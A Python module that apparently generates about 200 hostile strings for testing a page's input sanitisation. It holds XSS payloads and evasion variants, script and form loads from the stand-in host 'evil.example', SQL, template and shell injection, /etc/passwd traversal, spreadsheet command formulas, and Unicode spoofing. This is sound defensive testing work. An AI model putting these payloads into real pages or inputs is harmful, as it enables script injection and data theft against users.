"""200 different texts as somebody writes them who wants a page to run, load or hide something."""

import html
import itertools
import urllib.parse

RUN = "window.pwned=1"
AWAY = "http://evil.example/x"

_EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
_TAGS = (
    "<img src=x {}={}>",
    "<svg {}={}>",
    "<details open {}={}>x</details>",
    "<body {}={}>",
    "<input autofocus {}={}>",
    "<video src=x {}={}></video>",
)
_WHOLE = (
    "<script>{run}</script>",
    "<ScRiPt >{run}</sCrIpT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src='{away}.js'></script>",
    "<script type=module>import '{away}.js'</script>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<embed src='{away}.swf'>",
    "<link rel=stylesheet href='{away}.css'>",
    "<style>*{{display:none}}</style>",
    "<style>@import '{away}.css'; body{{background:url({away}.png)}}</style>",
    "<meta http-equiv=refresh content='0;url={away}'>",
    "<base href='{away}/'>",
    "<form action='{away}'><button>OK</button></form>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<template><script>{run}</script></template>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<a href='javascript:{run}'>click</a>",
    "<a href=' java\tscript:{run}'>click</a>",
    "<a href='data:text/html,<script>{run}</script>'>click</a>",
    "<p style='position:fixed;inset:0;background:red'>cover</p>",
)
_BREAKS = ("'", '"', "`", "'>", '">', "</textarea>", "</title>", "</style>", "-->", "</li></ol>",
           "</summary></details>", "\\'", "\\u003c/script\\u003e", "}}", "*/")  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x]({away}.png)",
    "<{away}>",
    "[x]: {away} \"title\"",
    "[x](vbscript:msgbox)",
    "&#106;avascript:{run}",
    ">!spoiler!< <script>{run}</script>",
)  # fmt: skip
_TEMPLATES = ("{{{{7*7}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "%s%n%x", "{{%print(1)%}}",
              "$(touch /tmp/x)", "`touch /tmp/x`", "'; DROP TABLE replies; --",
              "' OR '1'='1", "\"}}],\"x\":1,\"y\":[{{\"", "__proto__", "constructor",
              "../../../etc/passwd", "=HYPERLINK(\"{away}\")", "@SUM(1+1)*cmd|' /C calc'!A0",
              "null", "undefined", "NaN", "[object Object]", "true", "-1", "1e999")  # fmt: skip
_SCRIPTS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 nested \u2069",
    "\u200b\u200d\u2060\ufeff\u00ad",
    "\u2028line\u2029paragraph",
    "\u0085next\u000bfeed\u000c",
    "Z\u0351\u036b\u0343\u036a\u0302" * 300,
    "\u0e47" * 500,
    "\ufdfd" * 200,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 60,
    "W" * 9000,
    "\u0430\u0440\u0440\u04cf\u0435.com",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b2J\x1b[31m",
    "\r\rHidden\r\n\r\n\r\n" * 40,
    "\t" * 400,
    "a\u0300" * 3000,
    "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 then English \u05e2\u05d1\u05e8\u05d9\u05ea",
    "|" * 2000,
    "- [ ] " * 500,
    "\n".join("> " * depth + "deep" for depth in range(60)),
    "&lt;script&gt;" * 50,
)
_ODD = ("\ud83d".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "\ufffe", "\uffff")


def texts() -> list[str]:
    """Returns the texts; no two are alike."""
    run = {"run": RUN, "away": AWAY}
    tags = [tag.format(event, RUN) for tag, event in itertools.product(_TAGS, _EVENTS)]
    whole = [text.format(**run) for text in _WHOLE]
    broken = [f"{mark}<img src=x onerror={RUN}>" for mark in _BREAKS]
    broken += [f"{mark} onmouseover={RUN} x=" for mark in _BREAKS]
    encoded = [
        code(text)
        for code in (html.escape, lambda t: html.escape(html.escape(t)), urllib.parse.quote)
        for text in whole[:12]
    ]
    others = [text.format(**run) for text in (*_MARKDOWN, *_TEMPLATES)]
    every = [*whole, *tags, *broken, *encoded, *others, *_SCRIPTS, *_ODD]
    every += [f"{tag}{AWAY}" for tag in ("//", "https:", "url(", "ftp://", "ws://", "blob:")]
    every += [
        f"<{tag}>{RUN}</{tag}>" for tag in ("xmp", "noscript", "plaintext", "title", "textarea")
    ]
    every += [f"u/{name}" for name in ("<b>", "a/../b", "%00", "\u202eecila", "...")]
    distinct = list(dict.fromkeys(every))
    return distinct
